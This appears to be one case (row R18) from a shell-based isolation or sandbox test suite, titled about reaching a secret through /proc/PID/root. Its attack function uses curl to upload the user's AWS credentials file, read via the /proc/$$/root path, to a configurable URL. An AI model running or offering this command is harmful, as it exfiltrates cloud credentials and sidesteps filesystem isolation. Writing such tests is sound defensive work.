# SPDX-License-Identifier: Apache-2.0
TITLE="/proc/PID/root: the secret below another process's root"
ROW="R18"
attack() {
	curl -s -m 5 --data-binary "@/proc/$$/root$HOME/.aws/credentials" "$URL/"
}
